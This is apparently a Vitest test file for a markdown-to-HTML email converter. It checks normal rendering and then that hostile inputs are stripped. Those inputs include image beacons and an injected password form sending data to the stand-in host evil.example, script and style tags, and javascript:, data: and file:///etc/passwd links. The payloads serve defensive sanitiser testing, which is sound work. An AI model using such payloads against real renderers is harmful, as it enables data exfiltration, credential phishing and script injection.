import { expect, test } from 'vitest';
import { toHtml } from '../../../shared/email/to-html.ts';

const bodyOf = (markdown: string) => /<body>([\s\S]*)<\/body>/.exec(toHtml(markdown) ?? '')?.[1];

test.each([
  ['**Paid** on `2026-01-05`.', '<p><strong>Paid</strong> on <code>2026-01-05</code>.</p>'],
  ['Open https://acme.example/asks/a?b=1&c=2 here.', 'href="https://acme.example/asks/a?b=1&amp;c=2"'],
  ['| a | b |\n| - | - |\n| 1 | 2 |', '<td>1</td>'],
  ['```\nif (a < b) {}\n```', '<pre><code>if (a &lt; b) {}\n</code></pre>'],
])('%j is written as HTML', (markdown, html) => {
  expect(bodyOf(markdown)).toContain(html);
});

test.each([
  '<img src="https://evil.example/?d=1">',
  '<script>alert(1)</script>',
  '![x](https://evil.example/?d=secret)',
  '![x][r]\n\n[r]: https://evil.example/?d=secret',
  '[![x](https://evil.example/?d=1)](https://a.example)',
  '<style>body{background:url(https://evil.example)}</style>',
  '</body><form action="https://evil.example"><input name="password">',
])('%j loads nothing and runs nothing', (markdown) => {
  expect(bodyOf(markdown)).not.toMatch(/<(?:img|script|style|form|input|iframe|link|object|svg)\b|<\/body>/i);
});

test.each(['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'vbscript:x', 'java\nscript:x'])(
  'a link to %j leads nowhere',
  (url) => {
    expect(bodyOf(`[a](<${url}>) <${url}>`)).not.toMatch(/href="(?!")/);
  },
);

test.each([['>'.repeat(20_000)], ['- '.repeat(10_000)], ['a'.repeat(20_001)]])(
  'a text that no person reads, or a very long one, is sent as text only',
  (markdown) => {
    expect(toHtml(markdown)).toBeUndefined();
  },
);
